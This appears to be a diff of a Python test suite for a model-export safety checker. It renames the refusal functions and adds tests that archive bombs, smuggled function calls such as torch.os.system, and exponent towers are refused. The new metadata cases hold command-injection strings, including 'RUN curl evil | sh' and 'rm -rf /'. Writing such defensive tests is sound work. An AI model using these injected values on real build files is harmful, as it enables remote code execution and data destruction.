@@ -25,8 +25,9 @@ from trueloop.errors import BadArtifact, BadCheckpoint, Misuse
 from trueloop.export.catalogue import find_exporter, runner_of
 from trueloop.export.exporter import Array, FakeRunner
 from trueloop.export.folder import read_artifact, staged_folder, verify_files
+from trueloop.export.graph_schema import NotAllowed, allowed_graph, is_arithmetic
 from trueloop.export.safetensors import Safetensors
-from trueloop.export.safety import UNPACKED, _calls, _is_arithmetic, refuse_unsafe_graph, refuse_unsafe_script
+from trueloop.export.safety import UNPACKED, safe_graph, safe_script
 from trueloop.results.artifact import FILE
 from trueloop.serve.batching import Batcher
 from trueloop.serve.limits import Limits, Refused
@@ -57,6 +58,11 @@ COLUMN = {"name": "length", "kind": "number", "mean": 1.0, "spread": 2.0}
         ("versions", []),
         ("versions", {"trueloop": "0"}),
         ("versions/torch", 2.13),
+        ("versions/torch", "2.13.0\nRUN curl evil | sh\n#"),
+        ("versions/onnx", '1"; rm -rf /; "'),
+        ("target", "onnx\nRUN true"),
+        ("runtime/package", "onnxruntime\nRUN true"),
+        ("runtime/version", "1.18 && true"),
         ("licence", "MIT"),
         ("licence/model", 3),
         ("run", None),
@@ -188,11 +194,11 @@ def test_a_pickle_by_another_name_is_refused_and_never_read(tmp_path: Path, targ
 # -- archives --
 
 
-@pytest.mark.parametrize("look", [refuse_unsafe_graph, refuse_unsafe_script], ids=["graph", "script"])
+@pytest.mark.parametrize("look", [safe_graph, safe_script], ids=["graph", "script"])
 def test_an_archive_that_unpacks_to_far_more_is_refused_before_it_is_unpacked(
-    tmp_path: Path, look: Callable[[Path], None]
+    tmp_path: Path, look: Callable[[Path], io.BytesIO]
 ) -> None:
-    name = "m/models/model.json" if look is refuse_unsafe_graph else "m/code/a.py"
+    name = "m/models/model.json" if look is safe_graph else "m/code/a.py"
     with zipfile.ZipFile(tmp_path / "a", "w", zipfile.ZIP_DEFLATED) as bomb, bomb.open(name, "w") as out:
         for _ in range(UNPACKED // (1 << 20) + 1):
             out.write(bytes(1 << 20))
@@ -218,31 +224,36 @@ def test_files_that_lie_over_each_other_are_refused(tmp_path: Path) -> None:
             bomb.NameToInfo[again.filename] = again
         bomb._didModify = True  # type: ignore[attr-defined]
     with pytest.raises(BadArtifact, match="it unpacks to far more bytes"):
-        refuse_unsafe_graph(tmp_path / "a")
+        safe_graph(tmp_path / "a")
 
 
 def test_what_torch_packs_is_let_through(tmp_path: Path) -> None:
     with zipfile.ZipFile(tmp_path / "a", "w") as made:
         made.writestr("m/code/a.py", b"return x\n" * 500, zipfile.ZIP_DEFLATED)
         made.writestr("m/data/0", bytes(4096))
-    refuse_unsafe_script(tmp_path / "a")
+    safe_script(tmp_path / "a")
 
 
 # -- graphs --
 
 
-def _node(target: str, *arguments: dict[str, Any]) -> dict[str, Any]:
-    return {
-        "nodes": [{"target": target, "inputs": [{"name": "", "arg": argument, "kind": 1} for argument in arguments]}]
-    }
+def _refusal(target: str, *arguments: dict[str, Any]) -> str:
+    """Of a graph with one node. Empty: it is allowed."""
+    inputs = [{"name": "", "arg": argument, "kind": 1} for argument in arguments]
+    node = {"target": target, "inputs": inputs, "outputs": [], "metadata": {}}
+    try:
+        allowed_graph({"graph_module": {"graph": {"nodes": [node]}}})
+    except NotAllowed as error:
+        return str(error)
+    return ""
 
 
 def test_an_operation_that_is_handed_a_function_is_refused() -> None:
     """torch finds any function of any module that it has imported by such a name, as in torch.os.system, and `wrap`
     calls it."""
-    said = _calls(_node("torch.ops.higher_order.wrap", {"as_operator": "torch.os.system"}, {"as_string": "true"}))
+    said = _refusal("torch.ops.higher_order.wrap", {"as_operator": "torch.os.system"}, {"as_string": "true"})
     assert said == "calls torch.os.system"
-    assert _calls(_node("torch.ops.higher_order.out_dtype", {"as_operator": "torch.ops.aten.mm.default"})) == ""
+    assert _refusal("torch.ops.higher_order.out_dtype", {"as_operator": "torch.ops.aten.mm.default"}) == ""
 
 
 @pytest.mark.parametrize(
@@ -257,7 +268,7 @@ def test_an_operation_that_is_handed_a_function_is_refused() -> None:
     ],
 )
 def test_what_python_knows_of_every_object_is_no_operation(target: str, trusted: bool) -> None:
-    assert _calls(_node(target)) == ("" if trusted else f"calls {target}")
+    assert _refusal(target) == ("" if trusted else f"calls {target}")
 
 
 @pytest.mark.parametrize(
@@ -271,14 +282,14 @@ def test_what_python_knows_of_every_object_is_no_operation(target: str, trusted:
     ],
 )
 def test_comparisons_and_squares_of_sizes_are_arithmetic(text: str) -> None:
-    assert _is_arithmetic(text)
+    assert is_arithmetic(text)
 
 
 @pytest.mark.parametrize(
     "text", ["9**9**9**9", "Pow(9, Pow(9, 9))", "Pow(Integer(9), Integer(999999999))", "1 << 10**9", "s0**s1", "Pow(9)"]
 )
 def test_a_tower_of_powers_is_computed_by_nobody(text: str) -> None:
-    assert not _is_arithmetic(text)
+    assert not is_arithmetic(text)
 
 
 # -- a model whose answers are of the whole batch --
